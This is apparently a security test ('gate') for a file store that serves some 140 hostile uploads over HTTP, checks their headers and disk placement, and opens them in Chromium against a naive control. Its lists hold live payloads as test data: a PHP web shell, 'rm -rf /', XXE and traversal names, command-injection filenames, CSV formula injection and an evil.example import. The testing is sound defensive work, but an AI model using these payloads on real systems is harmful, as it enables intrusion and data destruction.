// Gate S8: whatever file a stranger sends under whatever name, nothing leaves the store's folder, nothing is unpacked, nothing is offered to a browser as a page.
// Each hostile file goes through `put`, is served over real HTTP by a signed path with `fileResponseHeaders`, and is judged from outside; in the full form
// (and with Chromium installed) every file is also opened, and embedded in a page of its own origin, where none may run.
// Positive control: the same files through a store that believes names and types, which the same judges must catch.
// Longer than our files are: the list of attacks is read together with what judges them.
import { runAsProgram } from './rig/gate.ts'
import { createHash } from 'node:crypto'
import { existsSync } from 'node:fs'
import { mkdir, mkdtemp, readdir, rm, stat, writeFile } from 'node:fs/promises'
import { createServer, type ServerResponse } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { dirname, join, relative, resolve } from 'node:path'
import { pipeline } from 'node:stream/promises'
import { deflateRawSync, gzipSync } from 'node:zlib'
import { createFileStore, type StoredFile } from '../../server/platform/files/file-store.ts'
import { readFileUrl, signFileUrl } from '../../server/platform/files/file-url.ts'
import { fileResponseHeaders } from '../../server/platform/files/response.ts'
import type { InstanceKeys } from '../../server/platform/secrets/instance-keys.ts'

export interface GateResult {
  gate: string
  passed: boolean
  figures: Record<string, number>
  failures: string[]
}

interface Hostile {
  name: string
  declaredType: string
  bytes: Buffer
}

const script = "new Image().src='/hit'"
const page = `<!doctype html><script>${script}</script>`
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="${script}"><script>${script}</script></svg>`
const png = '89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000a49444154789c63000100000500010d0a2db40000000049454e44ae426082'
const eicar = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}', '$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!', '$H+H*'].join('')

// prettier-ignore
const hostileNames = [
  '../../../etc/passwd', '..\\..\\..\\windows\\win.ini', '/etc/cron.d/x', '\\\\host\\share\\x', 'C:\\boot.ini', 'c:x', 'file:///etc/passwd',
  '....//....//x', '..;/x', '%2e%2e%2fx', '%252e%252e%252fx', '..%c0%afx', '..%00/x', '．．／x', '..\u2215x', '..\u2044x', 'a/../../x', './../x',
  '~/.ssh/authorized_keys', '.', '..', '', ' ', '/', '\\', 'x.html\u0000.png', 'x.png\u0000.html', 'x%00.png', 'x.html\n', 'x.png\r\nX-Injected: 1',
  'x.png"\r\nX-Injected: 1\r\n\r\n<script>', 'x\u000b.png', 'x\u2028.png', 'x\u0085y', 'x\u202egnp.html', '\u2067x\u2069.png', 'x\u200f.png',
  'x\u00ad.png', 'x\u200b.html', '\ufeffx.html', 'x\u{e0041}.png', 'x\ud800.png', 'Z\u0351\u036b\u0343\u036a.html', 'x.png.html', 'x.html.png',
  'x.php.jpg', 'x.jpg.php', 'x.pHp5', 'x.phtml', 'x.svg', 'x.svgz', 'x.xhtml', 'x.htm ', 'x.html.', 'x.html::$DATA', '.htaccess', 'web.config',
  'CON', 'nul.html', 'aux.', 'com1.png', 'desktop.ini', 'autorun.inf', 'x.lnk', 'x.scf', 'x.url', 'x.library-ms', '-rf', '$(touch x)', '`id`.png',
  ';id;.png', '|id', 'x&y.png', '"><img src=x onerror=alert(1)>.png', "'><svg onload=alert(1)>.png", '{{7*7}}.png', '${7*7}.png', '<%= 7*7 %>',
  '=cmd|" /C calc"!A0.csv', 'x;filename=y.html', "x\" ; filename*=UTF-8''y.html", 'a'.repeat(255), 'a'.repeat(100_000), `${'../'.repeat(5_000)}x`,
  `${'.'.repeat(10_000)}html`, 'क'.repeat(10_000), `${'\u202e'.repeat(10_000)}x`, `${'x'.repeat(300)}.html`, '👨‍👩‍👧‍👦'.repeat(500),
]

// prettier-ignore
const hostileTypes = [
  'text/html', 'TEXT/HTML', 'text/html; charset=utf-7', 'image/svg+xml', 'application/xhtml+xml', 'text/xml', 'application/xml',
  'application/rss+xml', 'text/xsl', 'application/mathml+xml', 'multipart/x-mixed-replace', 'multipart/related', 'text/javascript',
  'application/ecmascript', 'application/wasm', 'text/css', 'text/cache-manifest', 'application/x-shockwave-flash', 'application/hta',
  'message/rfc822', 'application/x-httpd-php', 'image/png', 'image/*', '*/*', '', 'x', 'image/png, text/html', 'image/png;text/html', 'text/plain',
  'text/plain\u0000', '../../x', 'image/png\r\nX-Injected: 1', 'text/html\nX-Injected: 1', 'application/pdf', 'audio/mpeg', 'video/mp4',
  'application/octet-stream', 't'.repeat(100_000),
]

const hostileContents: [name: string, declaredType: string, bytes: Buffer | string][] = [
  ['page.html', 'text/html', page],
  ['bom.txt', 'text/plain', `\ufeff${page}`],
  ['spaces.txt', 'text/plain', `${' '.repeat(2_000)}${page}`],
  ['comment.txt', 'text/plain', `<!--x-->${page}`],
  ['late.txt', 'text/plain', `hello\n${page}`],
  ['nul.txt', 'text/plain', `\u0000${page}`],
  ['utf7.txt', 'text/plain', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-'],
  ['utf16.txt', 'text/plain', Buffer.from(`\ufeff${page}`, 'utf16le')],
  ['iso2022.txt', 'text/plain', Buffer.from(`\u001b$B${page}\u001b(B`, 'latin1')],
  ['a.svg', 'image/svg+xml', svg],
  ['a.png', 'image/png', svg],
  ['doctype.svg', 'image/svg+xml', `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg}`],
  [
    'laughs.xml',
    'text/xml',
    `<!DOCTYPE l [<!ENTITY a "ha">${Array.from({ length: 9 }, (_, n) => `<!ENTITY a${n} "${`&a${n || ''};`.repeat(10)}">`).join('')}]><l>&a8;</l>`,
  ],
  ['a.xhtml', 'application/xhtml+xml', `<html xmlns="http://www.w3.org/1999/xhtml"><script>${script}</script></html>`],
  ['a.xsl', 'text/xml', '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#"?><x/>'],
  ['a.js', 'text/javascript', script],
  ['sw.js', 'application/javascript', "self.addEventListener('fetch', (event) => event.respondWith(new Response('x')))"],
  ['gif.js', 'image/gif', `GIF89a=1;${script}//`],
  ['gif2.js', 'image/gif', `GIF89a/*\u0001\u0000*/=1;${script}//`],
  ['bmp.js', 'image/bmp', `BM=1;${script}//`],
  ['wav.js', 'audio/wav', `RIFF=1;//WAVEfmt \n${script}`],
  ['gif.html', 'image/gif', `GIF89a${page}`],
  ['jpg.html', 'image/jpeg', Buffer.concat([Buffer.from('ffd8ffe000104a46494600010100000100010000', 'hex'), Buffer.from(page)])],
  ['png.html', 'image/png', Buffer.concat([Buffer.from(png, 'hex'), Buffer.from(page)])],
  ['png.php', 'image/png', Buffer.concat([Buffer.from(png, 'hex'), Buffer.from('<?php system($_GET[0]); ?>')])],
  ['webp.html', 'image/webp', `RIFF\u0024\u0000\u0000\u0000WEBPVP8 ${page}`],
  ['pdf.html', 'application/pdf', `%PDF-1.4\n${page}`],
  ['late-pdf.html', 'application/pdf', `${page}\n%PDF-1.4\n`],
  ['js.pdf', 'application/pdf', '%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>endobj\ntrailer<</Root 1 0 R>>'],
  ['launch.pdf', 'application/pdf', '%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/Launch/F(cmd.exe)>>>>endobj'],
  ['mp4.html', 'video/mp4', `\u0000\u0000\u0000\u0018ftypmp42\u0000\u0000\u0000\u0000mp42isom${page}`],
  ['webm.html', 'video/webm', Buffer.concat([Buffer.from('1a45dfa3', 'hex'), Buffer.from(page)])],
  ['mp3.html', 'audio/mpeg', `ID3\u0003\u0000\u0000\u0000\u0000\u0000\u0000${page}`],
  ['zip.html', 'application/zip', `${page}PK\u0003\u0004`],
  [
    'a.mhtml',
    'multipart/related',
    `MIME-Version: 1.0\nContent-Type: multipart/related; boundary=x\n\n--x\nContent-Type: text/html\n\n${page}\n--x--`,
  ],
  ['a.eml', 'message/rfc822', `Content-Type: text/html\n\n${page}`],
  ['a.hta', 'application/hta', `<script language="VBScript">CreateObject("WScript.Shell").Run "calc"</script>`],
  ['a.css', 'text/css', '@import "//evil.example/x"; body { background: url(/hit) }'],
  ['a.swf', 'application/x-shockwave-flash', `CWS\u0009${'\u0000'.repeat(40)}`],
  ['a.class', 'application/java-vm', Buffer.from('cafebabe00000034', 'hex')],
  ['a.wasm', 'application/wasm', Buffer.from('0061736d01000000', 'hex')],
  ['a.exe', 'image/png', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200)])],
  ['a.elf', 'image/png', Buffer.concat([Buffer.from('7f454c46020101', 'hex'), Buffer.alloc(200)])],
  ['a.sh', 'text/plain', '#!/bin/sh\nrm -rf /\n'],
  ['a.bat', 'text/plain', '@echo off\r\ndel /q *.*\r\n'],
  ['a.php', 'application/x-httpd-php', '<?php phpinfo();'],
  ['a.jsp', 'text/plain', '<%@ page %><% Runtime.getRuntime().exec("id"); %>'],
  ['.htaccess', 'text/plain', 'AddType application/x-httpd-php .jpg'],
  ['a.lnk', 'application/octet-stream', Buffer.from('4c0000000114020000000000c000000000000046', 'hex')],
  ['a.url', 'text/plain', '[InternetShortcut]\nURL=file://evil.example/x\n'],
  ['a.desktop', 'text/plain', '[Desktop Entry]\nExec=sh -c id\n'],
  ['eicar.com', 'text/plain', eicar],
  ['eicar.txt', 'image/png', eicar],
  ['bomb.zip', 'application/zip', zip('zeros', Buffer.alloc(20 * 1024 * 1024))],
  ['nested.zip', 'application/zip', zip('inner.zip', zip('inner.zip', zip('zeros', Buffer.alloc(1024 * 1024))))],
  ['slip.zip', 'application/zip', zip('../../../../tmp/slipped', Buffer.from('x'))],
  ['macro.docm', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', zip('word/vbaProject.bin', Buffer.from('x'))],
  [
    'types.docx',
    'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
    zip('[Content_Types].xml', Buffer.alloc(20 * 1024 * 1024, 32)),
  ],
  ['bomb.gz', 'application/gzip', gzipSync(Buffer.alloc(20 * 1024 * 1024))],
  ['bomb.svgz', 'image/svg+xml', gzipSync(svg)],
  ['bomb.png', 'image/png', Buffer.from(png.replace('0000000100000001', '7fffffff7fffffff'), 'hex')],
  ['a.csv', 'text/csv', '=cmd|\' /C calc\'!A0,"<script>alert(1)</script>"'],
  ['a.json', 'application/json', `{"x":"${page}"}`],
  ['a.ics', 'text/calendar', `BEGIN:VCALENDAR\nDESCRIPTION:${page}\nEND:VCALENDAR`],
  ['a.vcf', 'text/vcard', `BEGIN:VCARD\nFN:${page}\nEND:VCARD`],
  ['empty.html', 'text/html', ''],
  ['noise.png', 'image/png', Buffer.from(Array.from({ length: 5_000 }, (_, n) => (n * 7919) % 251))],
]

const hostileFiles: Hostile[] = [
  ...hostileNames.map((name) => ({ name, declaredType: 'text/html', bytes: Buffer.from(page) })),
  ...hostileTypes.map((declaredType) => ({ name: 'x.html', declaredType, bytes: Buffer.from(page) })),
  ...hostileTypes.map((declaredType) => ({ name: 'x.svg', declaredType, bytes: Buffer.from(svg) })),
  ...hostileContents.map(([name, declaredType, bytes]) => ({ name, declaredType, bytes: typeof bytes === 'string' ? Buffer.from(bytes) : bytes })),
]

/** Types with which a browser may do nothing but show, play or save. */
const harmlessTypes = /^(?:image\/(?:png|jpeg|gif|webp|avif)|application\/(?:pdf|octet-stream)|(?:audio|video)\/[\w-]+|text\/plain; charset=utf-8)$/

/** What is wrong with an answer, seen from outside. */
function judgeAnswer(headers: Headers): string[] {
  const type = headers.get('content-type') ?? ''
  const disposition = headers.get('content-disposition') ?? ''
  const shownName = /filename="([^"]*)"/.exec(disposition)?.[1] ?? ''
  const fullName = decodeURIComponent(/filename\*=UTF-8''(\S*)$/.exec(disposition)?.[1] ?? '')
  const checks: [isRight: boolean, wrong: string][] = [
    [harmlessTypes.test(type), `type ${type.slice(0, 40)}`],
    [
      disposition.startsWith('attachment; ') || (disposition.startsWith('inline; ') && type.startsWith('image/')),
      `disposition ${disposition.slice(0, 40)}`,
    ],
    [headers.get('x-content-type-options') === 'nosniff', 'no nosniff'],
    [headers.get('content-security-policy') === "sandbox; default-src 'none'", 'no sandbox'],
    [headers.get('cross-origin-resource-policy') === 'same-origin', 'embeddable anywhere'],
    [!headers.has('x-injected'), 'a header was injected'],
    [
      shownName !== '' && [shownName, fullName].every((name) => !/[/\\]|\.\.|^\.|[\p{Cc}\u202a-\u202e\u2066-\u2069]/u.test(name)),
      `name ${JSON.stringify([shownName, fullName]).slice(0, 60)}`,
    ],
  ]
  return checks.flatMap(([isRight, wrong]) => (isRight ? [] : [wrong]))
}

/** Files that lie where they should not, or that the system would run. */
async function judgeDisk(root: string, storeDir: string): Promise<{ wrong: string[]; outside: number; bytes: number }> {
  const wrong: string[] = []
  let outside = 0
  let bytes = 0
  for (const entry of await readdir(root, { recursive: true, withFileTypes: true })) {
    if (entry.isDirectory()) continue
    const path = join(entry.parentPath, entry.name)
    const { mode, size } = await stat(path)
    bytes += size
    if (relative(storeDir, path).startsWith('..')) outside++
    if (!/^w1[/\\]([0-9a-f]{2})[/\\]\1[0-9a-f]{62}$/.test(relative(storeDir, path))) wrong.push(`lies at ${relative(root, path).slice(0, 80)}`)
    if (!entry.isFile() || (mode & 0o177) !== 0) wrong.push(`${entry.name} has mode ${mode.toString(8)}`)
  }
  return { wrong, outside, bytes }
}

const keys: InstanceKeys = [{ id: 'gate', material: Buffer.alloc(32, 8) }]

/** Runs the gate; without `short` also in Chromium where there is one. Prints nothing. */
export async function run(short: boolean): Promise<GateResult> {
  const root = await mkdtemp(join(tmpdir(), 's8 files '))
  const failures: string[] = []
  const figures = {
    files: hostileFiles.length,
    served: 0,
    unsafeAnswers: 0,
    escapes: 0,
    bytesChanged: 0,
    controlUnsafeAnswers: 0,
    controlEscapes: 0,
    executed: 0,
    controlExecuted: 0,
    opened: 0,
  }
  const storeDir = join(root, 'a', 'b', 'store')
  const store = createFileStore({ dir: storeDir })
  const kept: StoredFile[] = []
  const site = await openSite((response, index) => serveGuarded(response, index))

  async function serveGuarded(response: ServerResponse, path: string): Promise<void> {
    const ref = readFileUrl(path, keys, new Date())
    const index = Number(ref?.fileId)
    const file = kept[index]
    if (!ref || !file) return void response.writeHead(404).end()
    const { stream, sizeBytes } = await store.open(ref.workspaceId, file.sha256)
    response.writeHead(
      200,
      fileResponseHeaders({ name: hostileFiles[index]?.name ?? '', contentType: file.contentType, sizeBytes }, { inline: true }),
    )
    await pipeline(stream, response)
  }
  const pathOf = (index: number) => signFileUrl({ workspaceId: 'w1', fileId: String(index), actor: 'agent:1' }, keys, new Date(Date.now() + 300_000))

  try {
    for (const { bytes, name, declaredType } of hostileFiles) kept.push(await store.put('w1', bytes, { name, declaredType }))
    for (const [index, { bytes, name }] of hostileFiles.entries()) {
      const response = await fetch(site.origin + pathOf(index))
      const wrong = judgeAnswer(response.headers)
      const got = createHash('sha256')
        .update(await response.bytes())
        .digest('hex')
      if (response.status === 200) figures.served++
      if (wrong.length > 0) figures.unsafeAnswers++
      if (got !== createHash('sha256').update(bytes).digest('hex')) figures.bytesChanged++
      failures.push(...wrong.map((what) => `${JSON.stringify(name.slice(0, 40))}: ${what}`))
    }
    const disk = await judgeDisk(root, storeDir)
    figures.escapes = disk.wrong.length
    failures.push(...disk.wrong)
    const expectedBytes = new Map(kept.map(({ sha256, sizeBytes }) => [sha256, sizeBytes])).values().reduce((sum, size) => sum + size, 0)
    if (disk.bytes !== expectedBytes) failures.push(`${disk.bytes} bytes on disk where ${expectedBytes} were sent: something was unpacked`)
    await control(root, figures, failures)
    if (!short)
      await runInBrowser(
        site,
        hostileFiles.map((_, index) => pathOf(index)),
        figures,
        failures,
      )
  } finally {
    site.close()
    await rm(root, { recursive: true, force: true })
  }
  if (figures.files < 140) failures.push(`only ${figures.files} hostile files`)
  if (figures.served !== figures.files) failures.push('not every file was served')
  if (figures.bytesChanged > 0) failures.push('a file was not served as it was sent')
  return { gate: 's8-files', passed: failures.length === 0, figures, failures }
}

/** A store that believes what it is told: the judges must catch it, or they are blind. It is kept inside the temporary folder. */
async function control(root: string, figures: { controlUnsafeAnswers: number; controlEscapes: number }, failures: string[]): Promise<void> {
  const dir = join(root, 'naive', 'a', 'b', 'c', 'd', 'e', 'w1')
  await mkdir(dir, { recursive: true })
  for (const { name, declaredType, bytes } of hostileFiles) {
    const path = resolve(dir, `./${name}`)
    if (path.startsWith(join(root, 'naive')))
      await mkdir(dirname(path), { recursive: true })
        .then(() => writeFile(path, bytes))
        .catch(() => {})
    if (judgeAnswer(naiveHeaders(name, declaredType)).length > 0) figures.controlUnsafeAnswers++
  }
  figures.controlEscapes = (await judgeDisk(join(root, 'naive'), dir)).outside
  if (figures.controlEscapes === 0) failures.push('control: no escape was seen, so the gate is blind to them')
  if (figures.controlUnsafeAnswers < hostileFiles.length) failures.push('control: unsafe answers were not seen')
}

function naiveHeaders(name: string, declaredType: string): Headers {
  const headers = new Headers()
  for (const [key, value] of [
    ['content-type', declaredType],
    ['content-disposition', `inline; filename="${name}"`],
  ] as const) {
    const [line = '', ...injected] = value.split(/[\r\n]+/)
    // oxlint-disable-next-line no-control-regex
    headers.set(key, line.replace(/[^\u0020-\u00ff]/g, '?'))
    if (injected.some((text) => text.startsWith('X-Injected'))) headers.set('x-injected', '1')
  }
  return headers
}

interface Site {
  origin: string
  hits: number
  close(): void
}

/** `/files/…` as the product serves it, `/naive/<n>` as it must not be served, `/embed?…` a page of ours around a file, `/hit` where a script that runs calls. */
async function openSite(serve: (response: ServerResponse, path: string) => Promise<void>): Promise<Site> {
  const server = createServer((request, response) => {
    const path = request.url ?? ''
    if (path === '/hit') site.hits++
    const naive = hostileFiles[Number(/^\/naive\/(\d+)$/.exec(path)?.[1] ?? -1)]
    if (naive)
      return void response
        .writeHead(200, { 'content-type': /^[\w/+.;= -]+$/.test(naive.declaredType) ? naive.declaredType : 'text/html' })
        .end(naive.bytes)
    if (path.startsWith('/files/')) return void serve(response, path).catch(() => response.destroy())
    if (!path.startsWith('/embed?')) return void response.writeHead(404).end()
    const file = path.slice('/embed?'.length)
    response.writeHead(200, { 'content-type': 'text/html' })
    response.end(
      `<iframe src="${file}"></iframe><object data="${file}"></object><embed src="${file}"><img src="${file}"><link rel="stylesheet" href="${file}"><script src="${file}"></script>`,
    )
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const site: Site = {
    origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    hits: 0,
    close: () => void (server.closeAllConnections(), server.close()),
  }
  return site
}

/** Every file embedded in every way in a page of its own origin, and opened itself: as we serve it nothing may call `/hit`, as declared many must. */
async function runInBrowser(
  site: Site,
  paths: string[],
  figures: { executed: number; controlExecuted: number; opened: number },
  failures: string[],
): Promise<void> {
  const executablePath = ['/usr/bin/chromium', '/usr/bin/chromium-browser', '/usr/bin/google-chrome'].find((path) => existsSync(path))
  if (!executablePath) return
  const { chromium } = await import('playwright-core')
  const browser = await chromium.launch({ executablePath, args: ['--no-sandbox'] })
  try {
    const tab = await (await browser.newContext({ acceptDownloads: false })).newPage()
    const open = async (path: string) => {
      await tab.goto(`${site.origin}/embed?${path}`, { waitUntil: 'load', timeout: 15_000 }).catch(() => {})
      await tab.goto(site.origin + path, { timeout: 5_000 }).catch(() => {})
      figures.opened++
    }
    for (const path of paths) await open(path)
    await tab.waitForTimeout(300)
    figures.executed = site.hits
    site.hits = 0
    for (const index of paths.keys()) if (index % 4 === 0) await open(`/naive/${index}`)
    await tab.waitForTimeout(300)
    figures.controlExecuted = site.hits
  } finally {
    await browser.close()
  }
  if (figures.executed > 0) failures.push(`${figures.executed} scripts ran in the browser`)
  if (figures.controlExecuted === 0) failures.push('control: nothing ran in the browser, so the gate is blind')
}

/** A zip of one entry. Source: PKWARE APPNOTE 6.3.10 § 4.3. The checksum is left 0, which no reader of ours looks at. */
function zip(name: string, content: Buffer): Buffer {
  const packed = deflateRawSync(content)
  const local = Buffer.alloc(30)
  local.writeUInt32LE(0x04034b50, 0)
  local.writeUInt16LE(20, 4)
  local.writeUInt16LE(8, 8)
  local.writeUInt32LE(packed.length, 18)
  local.writeUInt32LE(content.length, 22)
  local.writeUInt16LE(Buffer.byteLength(name), 26)
  return Buffer.concat([local, Buffer.from(name), packed])
}

await runAsProgram(import.meta.url, run)
